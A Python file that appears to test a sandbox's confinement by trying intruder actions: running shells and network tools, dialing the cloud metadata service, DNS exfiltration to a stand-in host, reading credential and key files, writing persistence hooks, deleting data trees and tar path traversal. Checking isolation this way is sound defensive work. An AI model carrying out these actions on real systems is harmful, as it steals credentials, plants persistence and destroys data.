"""What intruders' programs do first, as public lists have it: shells, downloads, credentials, persistence, ransom."""

FAMILY = "shells and tools"
for shell in ("/bin/sh", "/bin/bash", "/usr/bin/env", "/usr/bin/python3", "/bin/busybox", "/usr/bin/perl", "/bin/ls"):
    attempt(f"run {shell}", lambda shell=shell: subprocess.run([shell, "-c", "exit 0"], check=False).returncode == 0)
for tool in (
    "curl",
    "wget",
    "nc",
    "ncat",
    "ssh",
    "git",
    "pip",
    "gcc",
    "docker",
    "kubectl",
    "sudo",
    "su",
    "crontab",
    "at",
):
    attempt(f"run {tool}", lambda tool=tool: subprocess.run([tool, "--version"], check=False, capture_output=True))
attempt("a command line", lambda: os.system("true") == 0)
attempt("a command's output", lambda: os.popen("id").read() != "")
attempt("a command line by subprocess", lambda: subprocess.run("true", shell=True, check=False).returncode == 0)
attempt("a shell in a terminal", lambda: __import__("pty").spawn(["/bin/sh"]) == 0)
attempt("another user's shell", lambda: os.execv("/bin/su", ["su"]))
attempt("a compiled program", lambda: ctypes.CDLL(None).system(b"true") == 0)

FAMILY = "downloads and reports"


def dial_file(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as ours:
        ours.connect(path)
        return True


def dial(address, port):
    with socket.create_connection((address, port), timeout=2):
        return True


for address, port in (
    ("169.254.169.254", 80),
    ("127.0.0.1", 22),
    ("127.0.0.1", 5432),
    ("127.0.0.1", 8420),
    ("8.8.8.8", 53),
    ("1.1.1.1", 443),
    ("::1", 80),
):
    attempt(f"dial {address}:{port}", lambda address=address, port=port: dial(address, port))
for address in ("http://169.254.169.254/latest/meta-data/", "https://example.org/x.py", "ftp://example.org/x"):
    attempt(
        f"fetch {address}", lambda address=address: __import__("urllib.request").request.urlopen(address, timeout=2)
    )
attempt(
    "fetch a file of the host by its address",
    lambda: len(__import__("urllib.request").request.urlopen("file:///etc/shadow").read()) > 0,
)
attempt("read a table by its address", lambda: __import__("pandas").read_csv("https://example.org/x.csv"))
attempt("read a bucket", lambda: __import__("duckdb").sql("from 's3://bucket/x.parquet'").fetchall())
attempt("fetch an extension", lambda: __import__("duckdb").sql("install httpfs"))
attempt("load an extension", lambda: __import__("duckdb").sql("load '/tmp/x.duckdb_extension'"))
attempt("report by mail", lambda: __import__("smtplib").SMTP("127.0.0.1", timeout=2))
attempt("report by a name", lambda: socket.gethostbyname("c2VjcmV0.example.org"))
attempt("report to the log", lambda: dial_file("/dev/log"))
attempt("serve", lambda: __import__("http.server").server.HTTPServer(("", 8000), None))
attempt("serve on a file", lambda: __import__("socketserver").UnixStreamServer("/tmp/s", None))
attempt("a packet of one's own", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))


for path in (
    *("/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/notify"),
    *("/tmp/.X11-unix/X0", "/run/user/1000/bus", "/run/udev/control", "/dev/log"),
):
    attempt(f"speak to {path}", lambda path=path: dial_file(path))

FAMILY = "credentials"
for home in ("/root", "/home/user", "~"):
    for name in (
        *(".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".config/gcloud/credentials.db", ".kube/config"),
        *(".netrc", ".pgpass", ".docker/config.json", ".bash_history", ".git-credentials", ".pypirc", ".daytwo"),
    ):
        attempt(f"read {home}/{name}", lambda path=f"{home}/{name}": read(os.path.expanduser(path)) != b"")
for path in (
    *("/etc/shadow", "/etc/sudoers", "/etc/ssl/private", "/etc/kubernetes/admin.conf", "/proc/1/environ"),
    *("/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets", "/proc/self/../1/environ"),
):
    attempt(f"read {path}", lambda path=path: read(path) != b"")
attempt("accounts", lambda: [entry.pw_name for entry in __import__("pwd").getpwall()] != ["sandbox"])
attempt("who is logged in", lambda: read("/var/run/utmp"))
attempt("the keyboard", lambda: os.open("/dev/input/event0", os.O_RDONLY))
attempt("the screen", lambda: os.open("/dev/fb0", os.O_RDONLY))

FAMILY = "persistence"
for path in (
    *("/etc/crontab", "/etc/cron.d/x", "/var/spool/cron/root", "/etc/systemd/system/x.service", "/etc/rc.local"),
    *("/etc/profile.d/x.sh", "/etc/ld.so.preload", "/etc/ld.so.conf.d/x.conf", "/etc/init.d/x", "/etc/inittab"),
    *("/root/.bashrc", "/root/.ssh/authorized_keys", "/etc/sudoers.d/x", "/etc/pam.d/x", "/lib/udev/rules.d/x"),
    *("/env/sitecustomize.py", "/env/x.pth", "/py/lib/python3.11/sitecustomize.py", "/opt/daytwo/cell/__init__.py"),
    *("/env/numpy/__init__.py", "/usr/lib/x.so", "/opt/daytwo/zygote/child.py", "/dev/x", "/proc/self/exe"),
):
    attempt(f"leave {path}", lambda path=path: write(path))
attempt(
    "stay after the end",
    lambda: __import__("multiprocessing").Process(target=time.sleep, args=(99,), daemon=True).pid is not None,
)

FAMILY = "ransom"
EVERYTHING = ("/data", "/py", "/env", "/opt", "/etc", "/usr/lib", "/dev")


def writable():
    """Whatever of what we were given, and of the machine's, would let itself be overwritten."""
    return [path for path in itertools.islice(files_below(*EVERYTHING), 20_000) if can_write(path)]


def files_below(*folders):
    for folder in folders:
        for top, _, names in os.walk(folder):
            yield from (os.path.join(top, name) for name in names)


def can_write(path):
    mode = os.stat(path, follow_symlinks=False).st_mode
    if not stat.S_ISREG(mode):
        return False
    try:
        os.close(os.open(path, os.O_WRONLY))
    except OSError:
        return False
    return True


def folders_to_write():
    def can_create(folder):
        try:
            os.mkdir(f"{folder}/ransom")
        except OSError:
            return False
        return True

    tops = (top for place in EVERYTHING for top, _, _ in os.walk(place) if not top.startswith("/dev/shm"))
    return [folder for folder in itertools.islice(tops, 5_000) if can_create(folder)]


def unpack(name):
    tarfile, io = __import__("tarfile"), __import__("io")
    whole = io.BytesIO()
    with tarfile.open(fileobj=whole, mode="w") as archive:
        archive.addfile(tarfile.TarInfo(name), io.BytesIO())
    whole.seek(0)
    with tarfile.open(fileobj=whole) as archive:
        archive.extractall("/workspace", filter="fully_trusted")


attempt("overwrite any file there is", lambda: writable() != [])
attempt("create a file in any folder there is", lambda: folders_to_write() != [])
attempt("delete whole trees", lambda: __import__("shutil").rmtree("/data"))
attempt("delete the environment", lambda: __import__("shutil").rmtree("/env/numpy"))
attempt("unpack over the interpreter", lambda: unpack("../py/lib/x.py"))
attempt("unpack over data", lambda: unpack("../data/table.csv"))
